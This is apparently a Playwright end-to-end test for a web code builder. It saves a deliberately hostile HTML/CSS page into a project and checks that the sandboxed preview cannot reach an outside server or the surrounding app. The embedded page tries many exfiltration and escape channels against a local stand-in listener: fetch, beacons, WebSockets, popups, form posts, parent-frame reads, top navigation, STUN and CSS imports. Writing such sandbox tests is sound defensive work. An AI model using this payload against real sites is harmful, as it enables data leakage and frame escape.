import { createServer } from "node:http";
import { once } from "node:events";
import { expect, requests, signUp, test } from "./product.ts";

/** Everything a hostile page can think of to get something out, or to reach the app around it. */
const hostile = (address: string) => `<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=${address}/refresh">
<link rel="prefetch" href="${address}/prefetch"><link rel="preconnect" href="${address}">
</head><body><h1>Hostile</h1><img src="${address}/img"><iframe src="${address}/frame"></iframe>
<form id="f" action="${address}/form" method="post" target="_blank"><input name="a" value="1"></form><p id="out">working</p>
<script>
const said = [];
const attempt = (name, work) => { try { work(); said.push(name + ":ran"); } catch (error) { said.push(name + ":refused"); } };
attempt("fetch", () => { fetch("${address}/fetch").catch(() => {}); });
attempt("beacon", () => { navigator.sendBeacon("${address}/beacon", "x"); });
attempt("xhr", () => { const x = new XMLHttpRequest(); x.open("GET", "${address}/xhr"); x.send(); });
attempt("image", () => { new Image().src = "${address}/image"; });
attempt("socket", () => { new WebSocket("${address.replace("http", "ws")}/socket"); });
attempt("events", () => { new EventSource("${address}/events"); });
attempt("popup", () => { window.open("${address}/popup"); });
attempt("form", () => { document.getElementById("f").submit(); });
attempt("parent", () => { parent.document.title; said.push("parent:READ"); });
attempt("top", () => { top.location = "${address}/top"; });
attempt("storage", () => { localStorage.setItem("a", "1"); });
attempt("cookie", () => { document.cookie = "a=1"; });
attempt("rtc", () => { new RTCPeerConnection({ iceServers: [{ urls: "stun:${address.replace("http://", "")}" }] }); });
attempt("worker", () => { new Worker("${address}/worker.js"); });
document.getElementById("out").textContent = "tried " + said.join(" ");
const leave = () => { location.href = "${address}/navigate?" + encodeURIComponent(said.join()); };
</script><button onclick="leave()">Leave</button></body></html>`;

test("a hostile page reaches neither the network nor the app", async ({ page, context }) => {
  const reached: string[] = [];
  const outside = createServer((request, response) => {
    reached.push(request.url ?? "");
    response.end();
  }).listen(0, "127.0.0.1");
  await once(outside, "listening");
  const address = outside.address();
  if (address === null || typeof address === "string") throw new Error("no port");
  const away = `http://127.0.0.1:${address.port}`;

  await signUp(page);
  // The page arrives as a person's own code would: through the API.
  const graphql = await requests(page);
  const { createProject } = await graphql<{ createProject: { project: { id: string } } }>(
    "mutation ($input: CreateProjectInput!) { createProject(input: $input) { project { id } } }",
    { name: "Hostile" },
  );
  const projectId = createProject.project.id;
  await graphql("mutation ($input: SaveCodeInput!) { saveCode(input: $input) { version { id } } }", {
    projectId,
    code: {
      html: hostile(away),
      css: `body { background: url(${away}/css) } @import "${away}/import.css";`,
      javascript: "",
    },
  });

  await page.goto(`/projects/${projectId}`);
  const shown = page.frameLocator("iframe:not([aria-hidden='true'])");
  await expect(shown.getByRole("heading", { name: "Hostile" })).toBeVisible();
  await expect(shown.locator("#out")).toHaveText(/^tried /);
  await expect(shown.locator("#out")).toContainText("rtc:refused");
  await expect(shown.locator("#out")).not.toContainText("parent:READ");
  await shown.getByRole("button", { name: "Leave" }).click();
  // The builder notices that the page tried to leave, and shows it again.
  await expect(shown.getByRole("heading", { name: "Hostile" })).toBeVisible();
  await expect(page.getByRole("tab", { name: "Preview" })).toBeVisible();
  expect(page.url()).toContain(projectId);
  expect(context.pages()).toHaveLength(1);
  expect(reached).toEqual([]);
  outside.closeAllConnections();
  outside.close();
});
